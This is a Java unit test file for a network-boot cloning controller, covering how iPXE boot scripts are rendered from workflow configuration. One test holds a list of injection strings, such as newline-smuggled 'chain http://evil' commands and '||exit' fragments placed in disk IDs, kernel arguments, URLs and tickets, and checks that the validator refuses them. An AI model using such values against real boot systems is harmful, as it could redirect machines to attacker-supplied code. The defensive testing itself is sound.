package io.pureboot.clone.controller.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pureboot.clone.controller.config.CloneConfig;
import io.pureboot.clone.controller.workflow.Workflow;
import io.pureboot.clone.controller.workflow.WorkflowLoader;
import io.pureboot.clone.nodeapi.AgentMode;
import io.pureboot.clone.nodeapi.NodeRole;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The scripts as rendered from the workflows: a workflow edit shows in what a node boots. */
class IpxeScriptsTest {

    private static final UUID SESSION = UUID.fromString("8d7c6b5a-0000-4000-8000-000000000001");
    private static final BootRole TARGET = new BootRole(UUID.randomUUID(), NodeRole.TARGET, SESSION,
            AgentMode.CLONE_TARGET_STAGED, "SERIAL-T1");

    private static final String TICKET = "pbt_" + "A".repeat(43);

    @TempDir
    Path directory;

    @Test
    void theTargetScriptTriesThreeTimesThenGivesTheNodeBack() {
        Workflow workflow = WorkflowLoader.load(Path.of("..", "workflows")).get("clone-target-staged");

        String script = IpxeScripts.agent(config(3, ""), workflow, TARGET, TICKET);

        String kernel = "kernel --name vmlinuz http://ctl:8080/boot/pureboot-vmlinuz initrd=initrd.img "
                + "console=tty0 console=ttyS0,115200 quiet pureboot.network_timeout=60 pureboot.disk_timeout=60 "
                + "pureboot.after=reboot pureboot.after_failure=shell pureboot.server=http://ctl:8080 "
                + "pureboot.session=" + SESSION + " pureboot.mode=clone-target-staged pureboot.disk=SERIAL-T1 "
                + "pureboot.ticket=" + TICKET
                + " && initrd --name initrd.img http://ctl:8080/boot/pureboot-initrd.img && boot ||\n";
        assertThat(script).isEqualTo("#!ipxe\n# PureBoot Clone: boots into clone-target-staged\n"
                + kernel
                + "sleep 5 ||\nimgfree vmlinuz ||\nimgfree initrd.img ||\n" + kernel
                + "sleep 5 ||\nimgfree vmlinuz ||\nimgfree initrd.img ||\n" + kernel
                + "echo PureBoot Clone: could not load the boot image from http://ctl:8080/boot, leaving the node to its "
                + "firmware\nexit\n");
    }

    @Test
    void editingTheWorkflowChangesWhatTheNodeBoots() throws IOException {
        for (String mode : WorkflowLoader.MODES) {
            Files.copy(Path.of("..", "workflows", mode + ".yaml"), directory.resolve(mode + ".yaml"));
        }
        Path file = directory.resolve("clone-target-staged.yaml");
        Files.writeString(file, Files.readString(file)
                .replace("initrd: pureboot-initrd.img", "initrd: pureboot-initrd-v2.img")
                .replace("disks: PT1M", "disks: PT5M")
                .replace("success: reboot", "success: poweroff")
                .replace("quiet", "quiet pureboot.workers=2"));
        Workflow edited = WorkflowLoader.load(directory).get("clone-target-staged");

        String script = IpxeScripts.agent(config(1, "console=ttyS1"), edited, TARGET, TICKET);

        assertThat(script)
                .contains("initrd --name initrd.img http://ctl:8080/boot/pureboot-initrd-v2.img && boot ||\n")
                .contains(" quiet pureboot.workers=2 console=ttyS1 pureboot.network_timeout=60 pureboot.disk_timeout=300 ")
                .contains(" pureboot.after=poweroff ")
                .doesNotContain("sleep 5");
    }

    @Test
    void aDirectSourceServesAsLongAsItsWorkflowSays() {
        Workflow workflow = WorkflowLoader.load(Path.of("..", "workflows")).get("clone-source-direct");
        BootRole source = new BootRole(UUID.randomUUID(), NodeRole.SOURCE, SESSION, AgentMode.CLONE_SOURCE_DIRECT,
                "SERIAL-S");

        assertThat(IpxeScripts.agent(config(1, ""), workflow, source, TICKET))
                .contains(" pureboot.direct_timeout=720 ");
    }

    @Test
    void theChainScriptAsksByMacWithBoundedRetries() {
        assertThat(IpxeScripts.chain(config(2, ""))).isEqualTo("""
                #!ipxe
                # PureBoot Clone: ask the controller what this node boots
                chain --replace --autofree http://ctl:8080/api/v1/boot/ipxe?mac=${net0/mac} ||
                sleep 5 ||
                chain --replace --autofree http://ctl:8080/api/v1/boot/ipxe?mac=${net0/mac} ||
                echo PureBoot Clone: no answer from http://ctl:8080, leaving the node to its firmware
                exit
                """);
    }

    @Test
    void theAgentCallsTheHttpsUrlAndLoadsTheCaInitrdBesideTheImage() {
        Workflow workflow = WorkflowLoader.load(Path.of("..", "workflows")).get("clone-target-staged");

        String script = IpxeScripts.agent(config(1, "", Optional.of("https://ctl:8443"), Optional.of("pureboot-ca.img")),
                workflow, TARGET, TICKET);

        assertThat(script)
                .contains("kernel --name vmlinuz http://ctl:8080/boot/pureboot-vmlinuz initrd=initrd.img initrd=ca.img ")
                .contains(" pureboot.server=https://ctl:8443 ")
                .contains("initrd --name initrd.img http://ctl:8080/boot/pureboot-initrd.img && initrd --name ca.img "
                        + "http://ctl:8080/boot/pureboot-ca.img && boot ||\n");
    }

    @Test
    void aValueThatCouldInjectIsRefusedNotWritten() {
        Workflow workflow = WorkflowLoader.load(Path.of("..", "workflows")).get("clone-target-staged");
        for (String disk : List.of("d1\nchain http://evil", "d1 pureboot.token=x", "${net0/mac}", "d1||exit", "d1#x",
                "d1\u0000", "", "d".repeat(256))) {
            BootRole hostile = new BootRole(UUID.randomUUID(), NodeRole.TARGET, SESSION, AgentMode.CLONE_TARGET_STAGED,
                    disk);
            assertThatThrownBy(() -> IpxeScripts.agent(config(1, ""), workflow, hostile, TICKET))
                    .as("disk %s", disk).isInstanceOf(ScriptValues.UnsafeScriptValue.class)
                    .hasMessageStartingWith("disk_id ").hasMessageNotContaining("\n");
        }
        for (String arguments : List.of("quiet\nchain http://evil", "quiet pureboot.token=x", "a=${x}", "a||b",
                "a&&b", "#x", "pureboot.server=http://evil", "a\tb", "a  b", "a\u0000")) {
            assertThatThrownBy(() -> IpxeScripts.agent(config(1, arguments), workflow, TARGET, TICKET))
                    .as("arguments %s", arguments).isInstanceOf(ScriptValues.UnsafeScriptValue.class)
                    .hasMessageStartingWith("pureboot.clone.boot.kernel-arguments ");
        }
        for (String url : List.of("http://ctl\nchain http://evil", "http://ctl/${x}", "ftp://ctl", "http://ctl/a b",
                "http://ctl/#", "http://ctl/?a=1")) {
            assertThatThrownBy(() -> IpxeScripts.agent(config(1, "", Optional.of(url), Optional.empty()), workflow,
                    TARGET, TICKET)).as("url %s", url).isInstanceOf(ScriptValues.UnsafeScriptValue.class)
                    .hasMessageStartingWith("pureboot.clone.boot.agent-url ");
        }
        assertThatThrownBy(() -> IpxeScripts.agent(config(1, ""), workflow, TARGET, "pbt_x\nchain http://evil"))
                .isInstanceOf(ScriptValues.UnsafeScriptValue.class);
        assertThatThrownBy(() -> IpxeScripts.check(config(1, "console=ttyS0 pureboot.session=x"), List.of(workflow)))
                .hasMessage("pureboot.clone.boot.kernel-arguments sets pureboot.session, which only clone-service writes");
    }

    private static CloneConfig.Boot config(int attempts, String siteArguments) {
        return config(attempts, siteArguments, Optional.empty(), Optional.empty());
    }

    private static CloneConfig.Boot config(int attempts, String siteArguments, Optional<String> agentUrl,
            Optional<String> caInitrd) {
        return new CloneConfig.Boot() {
            @Override
            public String serverUrl() {
                return "http://ctl:8080";
            }

            @Override
            public String filesUrl() {
                return "http://ctl:8080/boot";
            }

            @Override
            public Optional<String> kernelArguments() {
                return Optional.of(siteArguments);
            }

            @Override
            public int fetchAttempts() {
                return attempts;
            }

            @Override
            public Duration tokenLifetime() {
                return Duration.ofHours(1);
            }

            @Override
            public Optional<String> agentUrl() {
                return agentUrl;
            }

            @Override
            public Duration ticketLifetime() {
                return Duration.ofMinutes(15);
            }

            @Override
            public Optional<String> caInitrd() {
                return caInitrd;
            }
        };
    }
}
